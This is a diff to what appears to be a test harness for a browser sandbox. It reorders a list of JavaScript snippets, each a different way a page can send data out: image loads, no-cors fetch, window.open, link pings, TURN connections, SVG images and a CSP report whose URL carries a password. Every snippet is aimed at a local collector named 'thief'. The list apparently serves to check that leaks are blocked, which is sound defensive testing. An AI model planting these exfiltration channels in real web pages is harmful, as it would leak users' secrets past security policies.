@@ -50,7 +50,7 @@ def ways_out(thief: Collector) -> list[WayOut]:
             ".catch(() => 0);",
             mark="web-identity",
         ),
-        WayOut("window", "window.open(to('window'));"),
+        WayOut("name", f"new Image().src = 'http://' + name + '.localhost:{thief.port}/name';", mark=".localhost:"),
         WayOut("fetch", "fetch(to('fetch'), {mode: 'no-cors', keepalive: true}).catch(() => 0);"),
         # the others; a browser without a window connects ahead to nobody
         WayOut("preconnect", f"link('preconnect', 'http://127.0.0.1:{thief.quiet_port}');", False, "quiet"),
@@ -91,6 +91,7 @@ def ways_out(thief: Collector) -> list[WayOut]:
         WayOut("form-to-window", "send(to('form-to-window'), '_blank');"),
         WayOut("ping", "const e = document.createElement('a'); e.href = '#'; e.ping = to('ping'); add(e);"
                "e.click();"),
+        WayOut("window", "window.open(to('window'));"),
         WayOut(
             "turn-tcp",
             f"const c = new RTCPeerConnection({{iceServers: [{{urls: 'turn:127.0.0.1:{turn}?transport=udp',"
@@ -100,7 +101,6 @@ def ways_out(thief: Collector) -> list[WayOut]:
         ),
         WayOut("svg-image", "const e = document.createElementNS('http://www.w3.org/2000/svg', 'svg');"
                "e.innerHTML = `<image href='${to('svg-image')}' width='9' height='9'/>`; add(e);"),
-        WayOut("name", f"new Image().src = 'http://' + name + '.localhost:{thief.port}/name';", mark=".localhost:"),
         WayOut("policy-report", "const e = new Image(); e.src = '/forbidden?' + password;", mark="/csp-report"),
     ]  # fmt: skip
 
